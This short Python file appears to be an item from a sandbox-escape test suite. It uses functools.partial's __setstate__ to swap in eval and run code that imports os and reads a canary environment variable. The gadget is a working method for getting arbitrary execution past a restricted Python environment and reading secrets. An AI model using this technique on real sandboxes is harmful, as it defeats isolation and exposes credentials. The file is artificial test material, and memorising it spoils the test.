"""Class: module gadget. Source: own find. Escape: a partial's __setstate__ puts any function into
it.
"""

import functools


def attack(model, tokenizer, address):
    made = functools.partial(print)
    made.__setstate__((eval, ("__import__('os').environ['CLOCHE_CANARY']",), {}, {}))
    return made()
